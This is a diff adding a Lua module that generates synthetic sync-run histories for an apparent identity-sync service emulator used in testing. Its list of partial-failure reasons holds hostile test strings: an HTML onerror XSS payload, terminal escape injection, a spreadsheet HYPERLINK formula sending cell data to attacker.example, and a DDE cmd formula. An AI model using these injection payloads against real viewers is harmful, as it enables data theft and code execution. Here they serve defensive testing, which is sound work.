@@ -1,0 +1,205 @@
+--- The clusters the emulator knows and the records their identity sources left: one story a cluster.
+-- Everything is computed from the seed and the start time, record by record, so a history of 300,000 costs nothing until it is
+-- read. Pure: no clock, no randomness, no nginx; the supervisor lists the clusters with it and nginx serves them.
+-- @module dwsync.emulator.stories
+
+local cjson = require "cjson"
+local digest = require "openssl.digest"
+
+local M = {}
+
+local SECOND, MINUTE, HOUR = 1000, 60 * 1000, 3600 * 1000
+
+local BIND_REFUSED = "javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C090439, comment: "
+    .. "AcceptSecurityContext error, data 52e, v4563]"
+
+-- What real directories return, and what a careless reader chokes on.
+local PARTIAL_REASONS = {
+    "2 of 41 accounts skipped: name longer than 63 bytes",
+    "user <img src=x onerror=alert(1)> rejected: <b>not</b> a valid role name",
+    "\27[31mrole \"\27]0;owned\7svc_etl\" already exists\27[0m",
+    '=HYPERLINK("http://attacker.example/?x="&A1,"details") is not a valid account name',
+    "group mapping a|b|c failed | 3 members skipped",
+    "first problem: duplicate mail attribute\nsecond problem: manager not found\r\n\tthird: Gr\195\188\195\159e \226\128\174gnp.exe",
+    "+cmd|' /C calc'!A0: account name refused",
+}
+
+local function hash(...)
+    return digest.new("sha256"):final(table.concat({...}, "/"))
+end
+
+local function hex(bytes)
+    return (bytes:gsub(".", function(byte) return ("%02x"):format(byte:byte()) end))
+end
+
+-- A version 4 UUID from sixteen bytes: what the service's own ids look like.
+local function uuid(bytes)
+    local text = hex(bytes:sub(1, 16))
+    local variant = ("89ab"):sub(bytes:byte(9) % 4 + 1, bytes:byte(9) % 4 + 1)
+    return ("%s-%s-4%s-%s%s-%s"):format(text:sub(1, 8), text:sub(9, 12), text:sub(14, 16), variant, text:sub(18, 20),
+        text:sub(21, 32))
+end
+
+--- An id that looks like a project's: 32 hexadecimal digits.
+-- @tparam integer seed
+-- @tparam string label
+-- @treturn string
+function M.hex_id(seed, label)
+    return hex(hash(seed, label):sub(1, 16))
+end
+
+-- One quiet, successful run; stories change what makes them a story. `bytes` are the record's own 32 pseudo-random bytes.
+local function quiet_run(source, bytes, start)
+    return {
+        id = uuid(bytes),
+        identity_source_id = source.id,
+        identity_source_type = source.type,
+        start_time = start,
+        end_time = start + 20 * SECOND + (bytes:byte(17) * 256 + bytes:byte(18)),
+        add_count = bytes:byte(19) % 4,
+        update_count = bytes:byte(20) % 6,
+        delete_count = bytes:byte(21) % 16 == 0 and 1 or 0,
+        failed_count = 0,
+        status = "FINISHED",
+        fail_reason = cjson.null,
+    }
+end
+
+local function fail(record, reason)
+    record.status, record.fail_reason = "FAILED", reason
+    record.add_count, record.update_count, record.delete_count = 0, 0, 0
+    record.end_time = record.start_time + 3 * SECOND
+end
+
+-- A start time `ago` before the emulator's, a few seconds off the full interval as schedulers are.
+local function start_of(context, ago, bytes)
+    return context.started - ago + (bytes:byte(22) * 16)
+end
+
+local function source_of(context, kind, label)
+    return {id = uuid(hash(context.seed, context.id, "source", label or kind)), type = kind}
+end
+
+-- A story is a function from its cluster's context {seed, id, started (ms), records} to the number of records and a function
+-- from an index (0 is the newest) to a record. `shape` changes a quiet run.
+local function regular(context, options)
+    local source = source_of(context, options.type or "ldap")
+    local newest = options.newest or 12 * MINUTE
+    return options.count, function(index)
+        local bytes = hash(context.seed, context.id, index)
+        local record = quiet_run(source, bytes, start_of(context, newest + index * (options.interval or HOUR), bytes))
+        if options.shape then options.shape(record, index, bytes) end
+        return record
+    end
+end
+
+local STORIES = {}
+
+function STORIES.healthy(context)
+    return regular(context, {count = 7 * 24})
+end
+
+function STORIES.failing(context)
+    return regular(context, {count = 7 * 24, shape = function(record, index)
+        if index < 3 * 24 then fail(record, BIND_REFUSED) end
+    end})
+end
+
+function STORIES.mass_delete(context)
+    return regular(context, {count = 7 * 24, shape = function(record, index, bytes)
+        if index == 0 then
+            record.add_count, record.update_count = 0, 2
+            record.delete_count = 470 + bytes:byte(23) % 20
+            record.end_time = record.start_time + 4 * MINUTE
+        elseif index == 7 * 24 - 1 then
+            record.add_count, record.update_count, record.delete_count = 958, 0, 0 -- the first run brought everybody
+        end
+    end})
+end
+
+function STORIES.stuck(context)
+    -- Hourly until it hung: nothing started after the run that never ended.
+    return regular(context, {count = 5 * 24, newest = 9 * HOUR, shape = function(record, index, bytes)
+        if index == 0 then
+            record.status, record.end_time = "RUNNING", nil
+            record.add_count, record.update_count, record.delete_count = 0, 0, 0
+        else
+            record.end_time = record.start_time + 110 * SECOND + bytes:byte(23) * 80
+        end
+    end})
+end
+
+function STORIES.partial(context)
+    return regular(context, {count = 4 * 24, type = "oneaccess", shape = function(record, index, bytes)
+        record.failed_count = 1 + bytes:byte(23) % 9
+        record.update_count = record.update_count + 20
+        record.fail_reason = PARTIAL_REASONS[index % #PARTIAL_REASONS + 1]
+    end})
+end
+
+function STORIES.two_sources(context)
+    local directory, aggregated = source_of(context, "ldap"), source_of(context, "oneaccess")
+    -- The directory every hour, the aggregated source every two hours between them: three runs in two hours.
+    local turns = {{directory, 0}, {aggregated, 30 * MINUTE}, {directory, HOUR}}
+    return 7 * 36, function(index)
+        local bytes = hash(context.seed, context.id, index)
+        local turn = turns[index % 3 + 1]
+        local ago = 12 * MINUTE + math.floor(index / 3) * 2 * HOUR + turn[2]
+        return quiet_run(turn[1], bytes, start_of(context, ago, bytes))
+    end
+end
+
+function STORIES.never()
+    return 0, function() error("this story has no record") end
+end
+
+STORIES.feature_off = STORIES.never
+
+function STORIES.large(context)
+    return regular(context, {count = context.records, interval = 10 * MINUTE, shape = function(record, index)
+        if index % 97 == 96 then fail(record, "Read timed out after 30000 ms: ldaps://directory.example.com:636") end
+    end})
+end
+
+M.names = {"healthy", "failing", "mass_delete", "stuck", "partial", "two_sources", "never", "feature_off", "large"}
+
+--- The clusters of one run.
+-- @tparam table options `seed` (integer) and `clusters` (how many healthy ones besides those that tell a story)
+-- @treturn {{id=string,name=string,story=string},...}
+function M.clusters(options)
+    local list = {}
+    local function add(name, story)
+        list[#list + 1] = {id = uuid(hash(options.seed, "cluster", name)), name = name, story = story}
+    end
+    for _, story in ipairs(M.names) do add("dws-" .. story:gsub("_", "-"), story) end
+    for number = 1, options.clusters do add(("bulk-%03d"):format(number), "healthy") end
+    return list
+end
+
+--- The records of one cluster.
+-- @tparam {id=string,story=string} cluster
+-- @tparam table options `seed`, `started` (milliseconds since the epoch) and `records` (length of the large story)
+-- @treturn integer how many
+-- @treturn function(index) → record as a table, cjson.null for null; index 0 is the newest
+function M.records(cluster, options)
+    return STORIES[cluster.story]{
+        seed = options.seed, id = cluster.id, started = options.started, records = options.records,
+    }
+end
+
+--- A run like any other, for records that arrive while somebody pages.
+-- @tparam {id=string} cluster
+-- @tparam table options `seed`
+-- @tparam integer number distinct for each record that arrived
+-- @tparam integer start milliseconds since the epoch
+-- @tparam ?table like a record whose identity source the new one belongs to; none: the cluster's directory
+-- @treturn table record
+function M.arrival(cluster, options, number, start, like)
+    local context = {seed = options.seed, id = cluster.id}
+    local source = like and {id = like.identity_source_id, type = like.identity_source_type} or source_of(context, "ldap")
+    local record = quiet_run(source, hash(context.seed, context.id, "arrival", number), start)
+    record.end_time = start + 1
+    return record
+end
+
+return M
